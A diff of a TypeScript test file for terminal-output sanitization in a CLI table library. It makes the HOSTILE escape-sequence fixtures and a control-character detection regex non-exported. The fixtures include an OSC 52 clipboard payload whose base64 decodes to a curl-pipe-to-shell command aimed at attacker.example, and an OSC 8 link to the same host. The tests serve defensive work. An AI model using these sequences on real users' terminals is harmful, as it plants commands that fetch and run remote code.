@@ -9,7 +9,7 @@ import { truncateMiddle, wrapText } from '../../../src/lib/cli/table.js'
 
 // Every class the issue names: C0 (BEL, CR, NUL), ESC with CSI / OSC 8 / OSC 52 / OSC 0, DEL,
 // C1 (CSI as U+009B), the bidi controls, tab and newline.
-export const HOSTILE: Record<string, string> = {
+const HOSTILE: Record<string, string> = {
   csi: 'alice\x1b[2K\x1b[1A\x1b[31mred',
   osc8: '\x1b]8;;https://attacker.example/\x1b\\click\x1b]8;;\x1b\\',
   osc52: '\x1b]52;c;Y3VybCBodHRwczovL2F0dGFja2VyLmV4YW1wbGUveCB8IHNo\x07',
@@ -26,7 +26,7 @@ export const HOSTILE: Record<string, string> = {
 
 /** A raw control or bidi character, as any output must never hold one (but its own newlines). */
 // eslint-disable-next-line no-control-regex
-export const RAW_UNSAFE = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/
+const RAW_UNSAFE = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/
 
 describe('terminalLine / terminalBlock', () => {
   test('every escape class becomes a visible escape: nothing raw is left, and the text is still there', () => {
